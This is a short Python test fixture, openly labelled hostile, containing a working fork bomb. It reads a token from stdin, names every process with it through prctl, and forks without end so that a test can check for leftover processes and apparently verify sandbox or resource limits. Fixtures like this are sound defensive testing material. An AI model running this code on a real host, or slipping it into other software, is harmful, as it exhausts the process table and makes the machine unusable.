"""Hostile: a fork bomb; every process keeps forking and retries when a fork fails.

Reads {"token": NAME} on stdin and names itself NAME (inherited by every child), so the test can look for
stray processes on the host afterwards.
"""

import ctypes
import json
import os
import sys

token = json.loads(sys.stdin.read())["token"]
ctypes.CDLL(None).prctl(15, token.encode(), 0, 0, 0)  # PR_SET_NAME
while True:
    try:
        os.fork()
    except OSError:
        pass
